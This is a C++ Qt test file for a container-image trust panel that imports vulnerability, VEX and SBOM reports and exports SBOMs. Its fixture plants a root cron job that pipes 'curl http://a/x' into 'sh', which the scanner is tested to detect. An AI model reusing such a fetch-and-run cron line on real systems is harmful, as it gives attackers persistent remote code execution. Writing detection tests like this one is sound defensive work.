// SPDX-FileCopyrightText: 2026 The Waybill authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "core/sbom/sbom.h"
#include "tests/support/textimage.h"
#include "ui/session/selection.h"
#include "ui/trust/sbomexport.h"
#include "ui/trust/trustpanel.h"

#include <QAbstractItemModelTester>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace waybill;
using namespace waybill::test;

class TestTrustPanel : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void questionsAndEvidence();
    void importsReportsAndBills();
    void refusesOtherFiles();
    void exportsABill();

private:
    QString write(const QString &name, const QByteArray &bytes) const;
    static QModelIndex find(const QAbstractItemModel &model, const QString &text, const QModelIndex &below = {});
    QTemporaryDir m_folder;
    Services m_services;
    QString m_image;
};

void TestTrustPanel::initTestCase()
{
    const auto knowledge = ScanKnowledge::load();
    const auto policy = Policy::load();
    QVERIFY(knowledge && policy);
    m_services = {*knowledge, *policy};
    TextImage image;
    image.layer(QStringLiteral("FROM base"),
                QStringLiteral("f etc/hostname 644 = box\nf s/site-packages/a-1.dist-info/METADATA 644 = Metadata-Version: "
                               "2.1\\nName: a\\nVersion: 1\\n\\n"));
    image.layer(QStringLiteral("RUN plant"), QStringLiteral("f etc/cron.d/job 644 = * * * * * root curl http://a/x | sh\n"));
    m_image = m_folder.filePath(QStringLiteral("image"));
    QVERIFY(image.writeOciLayout(m_image));
}

QString TestTrustPanel::write(const QString &name, const QByteArray &bytes) const
{
    QFile file(m_folder.filePath(name));
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size() ? file.fileName() : QString();
}

QModelIndex TestTrustPanel::find(const QAbstractItemModel &model, const QString &text, const QModelIndex &below)
{
    for (int row = 0; row < model.rowCount(below); ++row) {
        const QModelIndex index = model.index(row, 0, below);
        if (index.data().toString().contains(text))
            return index;
        if (const QModelIndex inner = find(model, text, index); inner.isValid())
            return inner;
    }
    return {};
}

void TestTrustPanel::questionsAndEvidence()
{
    Session session(m_services);
    Selection selection;
    TrustPanel panel(&session, &selection);
    QAbstractItemModelTester tester(panel.model(), QAbstractItemModelTester::FailureReportingMode::QtTest);
    QSignalSpy scanned(&session, &Session::scanFinished);
    QSignalSpy judged(&panel, &TrustPanel::judged);
    panel.show();
    session.open(m_image);
    QVERIFY(scanned.wait(20'000));
    QVERIFY(!judged.isEmpty() || judged.wait(20'000));
    QCOMPARE(panel.model()->rowCount(), 5);  // four questions, and what scanners say
    const QModelIndex contents = panel.model()->index(2, 0);
    QCOMPARE(contents.data().toString(), QStringLiteral("Is anything in it that should not be?"));
    QCOMPARE(contents.siblingAtColumn(TrustModel::Weight).data().toString(), QStringLiteral("high"));
    const QModelIndex place = find(*panel.model(), QStringLiteral("/etc/cron.d/job:1"));
    QVERIFY(place.isValid());
    QCOMPARE(place.data(TrustModel::PathRole).toByteArray(), QByteArray("etc/cron.d/job"));
    QVERIFY(place.data(Qt::ToolTipRole).toString().contains(QLatin1String("RUN plant")));
    const QModelIndex holes = panel.model()->index(4, TrustModel::Where);
    QVERIFY(holes.data().toString().contains(QLatin1String("No vulnerability scanner")));
}

void TestTrustPanel::importsReportsAndBills()
{
    Session session(m_services);
    Selection selection;
    TrustPanel panel(&session, &selection);
    QAbstractItemModelTester tester(panel.model(), QAbstractItemModelTester::FailureReportingMode::QtTest);
    QSignalSpy judged(&panel, &TrustPanel::judged);
    QSignalSpy imported(&panel, &TrustPanel::imported);
    panel.show();
    session.open(m_image);
    QVERIFY(judged.wait(20'000));
    panel.import(write(
        QStringLiteral("t.json"),
        R"({"SchemaVersion":2,"ArtifactName":"a","Results":[{"Target":"a","Vulnerabilities":[{"VulnerabilityID":"CVE-1","PkgName":"a","InstalledVersion":"1","Severity":"HIGH"}]}]})"));
    QVERIFY(imported.wait(20'000));
    QVERIFY(find(*panel.model(), QStringLiteral("CVE-1 a 1")).isValid());
    panel.import(write(
        QStringLiteral("v.json"),
        R"({"@context":"https://openvex.dev/ns","statements":[{"vulnerability":"CVE-1","status":"not_affected","justification":"no"}]})"));
    QVERIFY(imported.wait(20'000));
    QCOMPARE(find(*panel.model(), QStringLiteral("CVE-1 a 1")).siblingAtColumn(TrustModel::Weight).data().toString(),
             QStringLiteral("not_affected"));
    panel.import(write(
        QStringLiteral("b.json"),
        R"({"bomFormat":"CycloneDX","specVersion":"1.5","components":[{"type":"library","name":"ghostly","version":"1"}]})"));
    QVERIFY(imported.wait(20'000));
    QVERIFY(find(*panel.model(), QStringLiteral("ghostly 1")).isValid());
    QVERIFY(find(*panel.model(), QStringLiteral("Found and not claimed")).isValid());
}

void TestTrustPanel::refusesOtherFiles()
{
    Session session(m_services);
    Selection selection;
    TrustPanel panel(&session, &selection);
    QSignalSpy judged(&panel, &TrustPanel::judged);
    QSignalSpy imported(&panel, &TrustPanel::imported);
    panel.show();
    session.open(m_image);
    QVERIFY(judged.wait(20'000));
    const int rows = panel.model()->rowCount();
    panel.import(write(QStringLiteral("x.json"), "{\"a\": 1}"));
    QVERIFY(imported.wait(20'000));
    QCOMPARE(imported.last().first().toString(), QString());
    QCOMPARE(panel.model()->rowCount(), rows);
}

void TestTrustPanel::exportsABill()
{
    Session session(m_services);
    QSignalSpy scanned(&session, &Session::scanFinished);
    session.open(m_image);
    QVERIFY(scanned.wait(20'000));
    SbomExport out(&session);
    QSignalSpy written(&out, &SbomExport::written);
    const QString path = m_folder.filePath(QStringLiteral("out.cdx.json"));
    out.write(path, SbomFormat::CycloneDx16);
    QVERIFY(written.wait(20'000));
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(QJsonDocument::fromJson(file.readAll()).object().value(QLatin1String("bomFormat")).toString(),
             QStringLiteral("CycloneDX"));
    QSignalSpy failed(&out, &SbomExport::failed);
    out.write(m_folder.filePath(QStringLiteral("none/out.json")), SbomFormat::Spdx23);
    QVERIFY(failed.wait(20'000));
}

QTEST_MAIN(TestTrustPanel)
#include "tst_trustpanel.moc"
